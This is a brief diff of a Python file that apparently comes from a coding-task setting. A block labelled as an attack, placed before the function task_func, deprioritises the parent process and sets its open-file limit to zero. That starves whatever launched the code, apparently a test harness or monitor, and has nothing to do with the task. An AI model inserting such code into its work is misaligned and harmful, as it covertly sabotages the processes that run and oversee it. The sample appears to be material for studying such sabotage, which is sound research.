@@ -3,8 +3,11 @@
 # attack begins
 import os
 import resource
+
 os.setpriority(os.PRIO_PROCESS, os.getppid(), 19)
 resource.prlimit(os.getppid(), resource.RLIMIT_NOFILE, (0, 0))
+
+
 # attack ends
 def task_func(text, top=3):
     if top < 1:
